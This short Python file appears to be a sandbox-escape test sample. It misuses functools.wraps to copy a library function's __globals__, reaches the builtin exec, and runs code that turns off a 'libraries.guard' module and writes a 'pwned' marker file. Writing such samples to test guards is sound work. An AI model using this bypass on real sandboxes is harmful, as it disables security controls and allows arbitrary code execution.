"""file: functools.wraps copies the globals of a library's function as an attribute."""

import dataclasses
import functools

CODE = """\
import sys
for n, m in [*sys.modules.items()]:
    if n.endswith("libraries.guard"):
        m._State["on"] = False
open("pwned_wraps_assigned_globals", "w").close()
"""


class Holder:
    __globals__ = None


held = functools.wraps(dataclasses.replace, assigned=("__globals__",), updated=())(Holder())
found = held.__globals__["__builtins__"]
x = staticmethod(found["exec"])(CODE)
